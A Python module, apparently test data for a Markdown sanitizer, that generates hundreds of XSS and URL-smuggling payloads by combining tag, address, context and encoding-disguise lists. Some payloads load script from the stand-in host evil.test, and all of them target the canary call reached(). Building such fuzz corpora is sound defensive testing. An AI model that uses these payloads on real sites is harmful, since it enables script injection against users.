"""
Hostile Markdown, made by combining families: what would run, how it is dressed up, and
where in a text it stands. A text that gets through calls `reached()` or asks `evil.test`.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable
from urllib.parse import quote

CALL = "reached()"
FOREIGN = "//evil.test/x"

TAGS = [
    f"<script>{CALL}</script>",
    f"<script src={FOREIGN}></script>",
    f"<ScRiPt >{CALL}</sCrIpT\n>",
    f"<script\x0c>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=`x`onerror={CALL}>",
    f'<img """><script>{CALL}</script>">',
    f"<img src=https:{FOREIGN}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>a</text></a></svg>",
    f"<math><mi//xlink:href=data:x,<script>{CALL}</script>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title=--&gt;&lt;img src onerror={CALL}&gt;>"
    ),
    f"<noscript><p title=</noscript><img src=x onerror={CALL}>>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=https:{FOREIGN}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<details open ontoggle={CALL}><summary>a</summary></details>",
    f"<input autofocus onfocus={CALL}>",
    f"<form action=javascript:{CALL}><button>a</button></form>",
    f"<button formaction=javascript:{CALL}>a</button>",
    f"<body onload={CALL}>",
    f"<a href=javascript:{CALL}>a</a>",
    f"<a href='x' onmouseover={CALL}>a</a>",
    f"<p style=background:url(https:{FOREIGN})>a</p>",
    f"<style>@import 'https:{FOREIGN}';</style>",
    f"<link rel=stylesheet href=https:{FOREIGN}>",
    f"<link rel=prefetch href=https:{FOREIGN}>",
    f"<meta http-equiv=refresh content='0;url=https:{FOREIGN}'>",
    f"<base href=https:{FOREIGN}>",
    f"<div hx-get={FOREIGN} hx-trigger=load>a</div>",
    f"<div hx-on:htmx:load={CALL}>a</div>",
    f"<!--><script>{CALL}</script>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?php?><script>{CALL}</script>",
    f"</p></li></article><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<marquee onstart={CALL}>a</marquee>",
    f"<isindex action=javascript:{CALL} type=image>",
    f"<q onclick={CALL}>a</q>",
    f"<x id=a tabindex=1 onfocus={CALL}></x>",
]

ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f" javascript:{CALL}",
    f"javascript\u200b:{CALL}",
    f"\uff4aavascript:{CALL}",
    f"javascript://a.test/%0a{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"&#x6A;avascript:{CALL}",
    f"&#0000106avascript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"javascript%3A{CALL}",
    f"%6Aavascript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5yZWFjaGVkKCk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={CALL}>",
    "data:image/png;base64,AAAA",
    "blob:https://evil.test/1",
    f"file:///{FOREIGN}",
    "ftp://evil.test/x",
    "mailto:a@evil.test",
    "tel:+441234567",
    "intent://evil.test#Intent;scheme=https;end",
    FOREIGN,
    f"\\{FOREIGN[1:]}",
    f"/{FOREIGN}",
    "/\\evil.test/x",
    "/\t/evil.test/x",
    "/\n/evil.test/x",
    "\\\\evil.test/x",
    f"https:{FOREIGN}",
    "https:evil.test/x",
    "https:/\\evil.test/x",
    "https:///evil.test/x",
    "HTTPS://EVIL.TEST/x",
    "https://localhost@evil.test/x",
    "https://localhost\\@evil.test/x",
    "https://localhost%2f@evil.test/x",
    "https://localhost:pass@evil.test/",
    "https://localhost//evil.test/x",
    "https://localhost/\\evil.test/x",
    "https://localhost:99999999/x",
    "https://[::1/x",
    "https://\u202eevil.test/x",
    "https://ev\u0456l.test/x",
    'https://evil.test/"onmouseover="reached()',
    "https://evil.test/'onmouseover='reached()",
    "https://evil.test/><script>reached()</script>",
    "https://evil.test/?utm_source=<script>reached()</script>",
    f"https://evil.test/{quote('<script>reached()</script>')}",
    f"/leaving/?to=javascript:{CALL}",
    f"#javascript:{CALL}",
]

AROUND_ADDRESSES = [
    "[a]({})",
    "[a](<{}>)",
    '[a]({} "b")',
    '[a](b "{}")',
    "![a]({})",
    "[![a]({})](https://b.test)",
    "[![a](https://b.test)]({})",
    "[a][b]\n\n[b]: {}",
    "![a][b]\n\n[b]: <{}>",
    "<{}>",
    "{}",
    "> - [a]({})",
    "@[a]({})",
    "# [a]({})",
    "*[a]({})*",
    "https://b.test/{}",
    "[{0}]({0})",
]

AROUND_TAGS = [
    "{}",
    "a {} b",
    "> {}",
    "- {}\n- b",
    "# {}",
    "**{}**",
    "`{}`",
    "    {}",
    "```{}\na\n```",
    "~~~\n{}\n~~~",
    "[{}](https://b.test)",
    "![{}](https://b.test)",
    "[a](https://b.test '{}')",
    "[a][b]\n\n[b]: https://b.test '{}'",
    "@{}",
    "|a|\n|-|\n|{}|",
    "\\{}",
    "<{}>",
    "https://b.test/{}",
    "a\n{}\n=",
]

DISGUISES: list[Callable[[str], str]] = [
    str,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    lambda text: text.replace("e", "e\u0301").replace("<", "\u202e<"),
]


def hostile_texts() -> list[str]:
    """The same list each time, without doubles."""
    found = dict.fromkeys(
        place.format(address) for place, address in itertools.product(AROUND_ADDRESSES, ADDRESSES)
    )
    for number, (place, tag) in enumerate(itertools.product(AROUND_TAGS, TAGS)):
        found[place.format(tag)] = None
        found[place.format(DISGUISES[number % len(DISGUISES)](tag))] = None
    for outer, inner in itertools.product(AROUND_TAGS, AROUND_ADDRESSES):
        found[outer.format(inner.format(ADDRESSES[len(found) % len(ADDRESSES)]))] = None
    return list(found)
